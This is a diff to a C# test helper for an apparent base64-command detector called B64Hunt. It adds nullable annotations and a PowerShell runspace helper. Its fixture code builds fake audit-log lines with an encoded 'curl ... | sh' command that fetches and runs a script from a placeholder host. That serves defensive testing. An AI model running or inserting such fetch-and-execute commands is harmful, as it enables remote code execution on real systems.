@@ -12,11 +12,11 @@ namespace B64Hunt.Tests.Hostile
         public static string B64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));
 
         /// <summary>An RFC 3164 AUOMS_EXECVE line whose cmdline hides "curl ... 203.0.113.{i} ...".</summary>
-        public static string Auoms(int i, string host = null) =>
+        public static string Auoms(int i, string? host = null) =>
             $"Oct  1 00:{i / 60 % 60:00}:{i % 60:00} {host ?? "web-" + i} auoms[1]: type=AUOMS_EXECVE audit(1790812800.000:{i}): user=root uid=0 comm=\"bash\" " +
             $"cmdline=\"bash -c echo {B64("curl -s http://203.0.113." + (i % 250) + "/a.sh | sh")}|base64 -d|sh\" redactors= containerid=";
 
-        public static string AuomsFile(int count, string firstLine = null, string newline = "\n")
+        public static string AuomsFile(int count, string? firstLine = null, string newline = "\n")
         {
             var lines = Enumerable.Range(0, count).Select(i => Auoms(i));
             if (firstLine != null) lines = new[] { firstLine }.Concat(lines);
@@ -31,5 +31,13 @@ namespace B64Hunt.Tests.Hostile
         }
 
         public static byte[] Gzip(string text) => Gzip(Encoding.UTF8.GetBytes(text));
+
+        /// <summary>A runspace with Get-B64Command, for the end-to-end cases.</summary>
+        public static System.Management.Automation.PowerShell GetB64CommandShell()
+        {
+            var iss = System.Management.Automation.Runspaces.InitialSessionState.CreateDefault2();
+            iss.Commands.Add(new System.Management.Automation.Runspaces.SessionStateCmdletEntry("Get-B64Command", typeof(B64Hunt.Commands.GetB64CommandCommand), null));
+            return System.Management.Automation.PowerShell.Create(iss);
+        }
     }
 }
